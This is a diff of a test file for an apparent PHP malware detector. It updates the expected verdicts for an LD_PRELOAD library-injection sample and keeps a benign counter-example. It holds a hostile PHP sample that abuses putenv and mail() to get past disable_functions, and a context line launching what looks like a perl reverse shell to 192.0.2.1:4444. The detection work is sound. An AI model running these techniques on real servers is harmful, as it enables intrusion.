@@ -141,7 +141,14 @@ exec("perl /tmp/.bc 192.0.2.1 4444 &");
 
 test('php LD_PRELOAD dropper: a native library written by the page and preloaded', () => {
   const code = `<?php\n$so = "\\x7f\\x45\\x4c\\x46\\x02\\x01\\x01\\x00";\nfile_put_contents('./helper.so', $so);\nputenv("LD_PRELOAD=./helper.so");\nmail('a@example.test', '', '', '');\n`;
-  assert.deepEqual(verdict('u.php', code), ['malicious', ['writes a native library and loads it into a program through LD_PRELOAD (native-code dropper)']]);
+  // (php/bypass.ts names the putenv + mail() half of the same technique)
+  assert.deepEqual(verdict('u.php', code), [
+    'malicious',
+    [
+      'sets LD_PRELOAD and then starts a child process (mail/error_log): library injection past disable_functions',
+      'writes a native library and loads it into a program through LD_PRELOAD (native-code dropper)',
+    ],
+  ]);
   // a page that only prints setup advice naming LD_PRELOAD
   const ok = `<?php\nfile_put_contents('notes.txt', 'tuning');\necho "export LD_PRELOAD=/usr/lib/libjemalloc.so before starting the worker";\n`;
   assert.deepEqual(verdict('v.php', ok), [undefined, []]);
